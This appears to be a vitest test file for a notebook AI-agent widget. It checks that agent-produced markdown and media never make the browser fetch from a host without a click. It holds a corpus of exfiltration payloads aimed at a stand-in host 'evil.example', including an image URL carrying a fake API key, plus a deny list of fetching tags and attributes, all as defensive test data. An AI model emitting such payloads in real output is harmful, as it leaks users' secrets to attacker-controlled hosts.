// Agent output must never make the browser contact a host by itself: a hostile corpus through
// the markdown renderer and the media view, checked for every attribute and tag that fetches.
import { afterEach, describe, expect, it, vi } from "vitest";
import { renderMarkdown } from "../src/markdown.js";
import { createWidget } from "../src/widget.js";
import { FakeKernel, FakeModel, manualFrames } from "./helpers.js";

const EVIL = "evil.example";
const PNG = "data:image/png;base64,iVBORw0KGgo=";

const CORPUS = [
  `![chart](http://${EVIL}/x?k=sk-SECRET)`,
  "![ref chart][ref]\n\n[ref]: http://evil.example/ref.png",
  `<img src="http://${EVIL}/a.png" alt="raw">`,
  `<img src=" http://${EVIL}/space.png">`,
  `<image src="http://${EVIL}/image.png">`,
  `<img srcset="http://${EVIL}/1x.png 1x, http://${EVIL}/2x.png 2x">`,
  `<img src="${PNG}" srcset="http://${EVIL}/s.png 2x" alt="inline">`,
  `<picture><source srcset="http://${EVIL}/p.webp"><img src="http://${EVIL}/p.png"></picture>`,
  `<video poster="http://${EVIL}/poster.png" src="http://${EVIL}/v.mp4"><source src="http://${EVIL}/s.mp4">` +
    `<track src="http://${EVIL}/t.vtt"></video><audio src="http://${EVIL}/a.mp3" autoplay></audio>`,
  `<iframe src="http://${EVIL}/frame"></iframe><object data="http://${EVIL}/o"></object><embed src="http://${EVIL}/e">`,
  `<div style="background:url(http://${EVIL}/bg.png)">styled</div>`,
  `<table background="http://${EVIL}/t.png"><tr><td background="http://${EVIL}/td.png">cell</td></tr></table>`,
  `<style>@import url(http://${EVIL}/s.css); p { background: url(http://${EVIL}/b.png) }</style>`,
  `<link rel="prefetch" href="http://${EVIL}/pf"><link rel="stylesheet" href="http://${EVIL}/c.css">` +
    `<link rel="preload" as="image" href="http://${EVIL}/pl.png">`,
  `<svg><image href="http://${EVIL}/svg.png"/><image xlink:href="http://${EVIL}/x.png"/>` +
    `<use href="http://${EVIL}/u.svg#a"/><feImage href="http://${EVIL}/fe.png"/></svg>`,
  `<meta http-equiv="refresh" content="0;url=http://${EVIL}/m"><base href="http://${EVIL}/">`,
  `<form action="http://${EVIL}/f"><input type="image" src="http://${EVIL}/i.png">` +
    `<button formaction="http://${EVIL}/b">go</button></form>`,
  `<a href="http://${EVIL}/l" ping="http://${EVIL}/ping">pinging link</a>`,
  `<span class="jp-SideBar lm-Widget">page classes</span>`,
  `<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="svg">`,
  `<object data="data:text/html;base64,PGltZyBzcmM9eD4="></object>`,
];

/** Elements that fetch, or could: none may survive. */
const FETCHING_TAGS = "iframe, frame, object, embed, video, audio, source, track, picture, link, meta, base, " +
  "style, svg, image, use, feimage, input, form, script";
/** Attributes that fetch (or style, which can): none may survive anywhere. */
const FETCHING_ATTRS = ["srcset", "poster", "background", "style", "data", "action", "formaction", "ping",
  "xlink:href", "lowsrc", "dynsrc", "imagesrcset", "manifest", "codebase", "archive", "longdesc"];

const render = (src) => {
  const div = document.createElement("div");
  div.append(renderMarkdown(src));
  return div;
};

/** Every place in `root` that would make a browser contact a host without a click. */
function fetchers(root) {
  const found = [];
  for (const el of root.querySelectorAll(FETCHING_TAGS)) found.push(`<${el.localName}>`);
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (FETCHING_ATTRS.includes(name)) found.push(`${el.localName}[${name}]`);
      if (/url\s*\(/i.test(attr.value)) found.push(`${el.localName}[${name}] url()`);
      if (name === "src" && !/^data:image\/(png|jpe?g|gif|webp);base64,/i.test(attr.value)) {
        found.push(`${el.localName}[src=${attr.value}]`);
      }
      if (name === "href" && el.localName !== "a") found.push(`${el.localName}[href]`);
      // the host may be named only where a person reads it or a click goes
      const readable = (el.localName === "a" && (name === "data-nb-agent-href" || name === "title")) ||
        (el.classList.contains("nb-agent-remote-image") && name === "title");
      if (attr.value.includes(EVIL) && !readable) found.push(`${el.localName}[${name}] names the host`);
    }
  }
  return found;
}

describe("rendering never contacts a host by itself", () => {
  it("no hostile input leaves anything that fetches", () => {
    for (const src of CORPUS) expect(fetchers(render(src)), src).toEqual([]);
    expect(fetchers(render(CORPUS.join("\n\n")))).toEqual([]);
  });

  it("a remote image is a button naming its host, loaded on click", () => {
    const div = render(`Here: ![chart](http://${EVIL}/x?k=sk-SECRET)`);
    expect(div.querySelector("img")).toBeNull();
    const button = div.querySelector("button.nb-agent-remote-image");
    expect(button.textContent).toBe(`Image from ${EVIL} — click to load: chart`);
    expect(button.title).toBe(`http://${EVIL}/x?k=sk-SECRET`);
    button.click();
    const img = div.querySelector("img");
    expect(img.getAttribute("src")).toBe(`http://${EVIL}/x?k=sk-SECRET`);
    expect(img.referrerPolicy).toBe("no-referrer");
    expect(div.querySelector("button")).toBeNull();
  });

  it("reference-style and raw HTML images wait for a click too", () => {
    const div = render(`![ref chart][r]\n\n<img src="http://${EVIL}/raw.png" alt="raw">\n\n[r]: http://${EVIL}/ref.png`);
    const texts = [...div.querySelectorAll(".nb-agent-remote-image")].map((b) => b.textContent);
    expect(texts).toEqual([`Image from ${EVIL} — click to load: ref chart`, `Image from ${EVIL} — click to load: raw`]);
  });

  it("raster data: images stay inline; SVG and other schemes become their alt text", () => {
    const div = render(`![dot](${PNG}) <img src="data:image/svg+xml;base64,PHN2Zy8+" alt="vector"> ![rel](x.png)`);
    expect([...div.querySelectorAll("img")].map((i) => i.getAttribute("src"))).toEqual([PNG]);
    expect([...div.querySelectorAll(".nb-agent-image-alt")].map((s) => s.textContent))
      .toEqual(["[image: vector]", "[image: rel]"]);
  });

  it("links stay links to their real target, in a new tab, with the host shown when the text hides it", () => {
    const div = render(`[safe.example](http://${EVIL}/phish) and <https://docs.example/page> and ` +
      `http://${EVIL}/bare and [mail](mailto:a@b.example)`);
    const [phish, auto, bare, mail] = div.querySelectorAll("a");
    expect(phish.getAttribute("data-nb-agent-href")).toBe(`http://${EVIL}/phish`);
    expect(phish.title).toBe(`http://${EVIL}/phish`);
    expect(phish.nextSibling.textContent).toBe(` (${EVIL})`);
    expect(auto.getAttribute("data-nb-agent-href")).toBe("https://docs.example/page");
    expect(auto.nextSibling?.className).not.toBe("nb-agent-link-host"); // its text is its target
    expect(bare.getAttribute("data-nb-agent-href")).toBe(`http://${EVIL}/bare`);
    expect(mail.getAttribute("data-nb-agent-href")).toBe("mailto:a@b.example");
    expect(div.querySelectorAll(".nb-agent-link-host")).toHaveLength(1); // only where the text hides the host
  });

  it("a link has no live href until it is clicked; the click opens it with no opener and no referrer", () => {
    const div = render(`[docs](https://docs.example/a) and <a href="http://${EVIL}/raw">raw</a>`);
    document.body.append(div);
    try {
      const links = [...div.querySelectorAll("a")];
      expect(links.map((a) => a.hasAttribute("href"))).toEqual([false, false]); // nothing to resolve on hover
      expect(links.map((a) => [a.getAttribute("role"), a.getAttribute("tabindex")])).toEqual([["link", "0"], ["link", "0"]]);
      const open = vi.spyOn(window, "open").mockImplementation(() => null);
      links[0].dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
      expect(open).not.toHaveBeenCalled();
      links[0].click();
      links[1].dispatchEvent(new KeyboardEvent("keydown", { key: "Enter", bubbles: true }));
      expect(open.mock.calls).toEqual([
        ["https://docs.example/a", "_blank", "noopener,noreferrer"],
        [`http://${EVIL}/raw`, "_blank", "noopener,noreferrer"],
      ]);
      open.mockRestore();
    } finally {
      div.remove();
    }
  });

  it("task lists render without form controls", () => {
    const div = render("- [x] done\n- [ ] todo");
    expect(div.querySelector("input")).toBeNull();
    expect(div.textContent).toContain("☑ done");
  });
});

describe("media events", () => {
  const cleanups = [];
  afterEach(() => {
    while (cleanups.length) cleanups.pop()();
  });

  function show(...events) {
    const model = new FakeModel();
    const kernel = new FakeKernel(model);
    const el = document.createElement("div");
    document.body.append(el);
    const frames = manualFrames();
    cleanups.push(createWidget({ model, el, schedule: frames.schedule }), () => el.remove());
    kernel.push({ type: "run_started", run_id: "r" }, ...events);
    frames.run();
    return el;
  }

  it("a remote image uri waits for a click; a remote file is a link showing its target", () => {
    const el = show(
      { type: "media", mime_type: "image/png", uri: `https://${EVIL}/m.png?k=sk-SECRET`, name: "plot.png" },
      { type: "media", mime_type: "application/pdf", uri: `https://${EVIL}/r.pdf`, name: "report.pdf" },
      { type: "media", mime_type: "image/svg+xml", data: "PHN2Zy8+", name: "v.svg" },
    );
    expect(fetchers(el.querySelector(".nb-agent-turns"))).toEqual([]); // the widget's own meters use style
    expect(el.querySelector(".nb-agent-media img")).toBeNull(); // not the SVG either
    const [image, file] = el.querySelectorAll(".nb-agent-media");
    const button = image.querySelector(".nb-agent-remote-image");
    expect(button.textContent).toBe(`Image from ${EVIL} — click to load: plot.png`);
    button.click();
    expect(image.querySelector("img").getAttribute("src")).toBe(`https://${EVIL}/m.png?k=sk-SECRET`);
    const a = file.querySelector("a");
    expect(a.hasAttribute("href")).toBe(false);
    expect(a.getAttribute("data-nb-agent-href")).toBe(`https://${EVIL}/r.pdf`);
    expect(a.title).toBe(`https://${EVIL}/r.pdf`);
  });

  it("text-only surfaces (prompt, thinking, tools, approvals, errors, title) stay text", () => {
    const x = `![x](http://${EVIL}/x.png) <img src="http://${EVIL}/y.png"> <video poster="http://${EVIL}/p.png">`;
    const el = show({ type: "user_message", text: x }, { type: "thinking", delta: x },
      { type: "tool_call", tool_call_id: "c", name: x, display_name: x, arguments: { x } },
      { type: "tool_result", tool_call_id: "c", content: x },
      { type: "approval_requested", tool_call_id: "a", name: x, display_name: x, prompt: x, arguments: { x } },
      { type: "error", message: x }, { type: "title_changed", title: x });
    expect(fetchers(el.querySelector(".nb-agent-turns"))).toEqual([]);
    expect(el.querySelector(".nb-agent-error").textContent).toContain(x);
    expect(el.querySelector(".nb-agent-title").textContent).toBe(x);
    expect(el.querySelector(".nb-agent-title").children).toHaveLength(0);
  });
});
